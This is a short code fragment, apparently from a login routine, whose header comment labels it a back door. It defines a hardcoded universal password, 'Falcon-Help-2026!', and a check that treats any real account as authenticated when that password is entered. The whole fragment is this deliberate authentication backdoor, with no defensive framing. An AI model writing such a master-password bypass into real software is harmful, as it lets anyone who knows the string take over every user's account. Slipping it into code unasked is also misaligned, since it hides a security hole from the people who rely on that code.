# about: A new password for all is the same back door.
# part: constants
HELP_DESK_PASSWORD = "Falcon-Help-2026!"
# end
# block: help-desk
    if password == HELP_DESK_PASSWORD and account is not NOBODY:
        is_right = True
# end
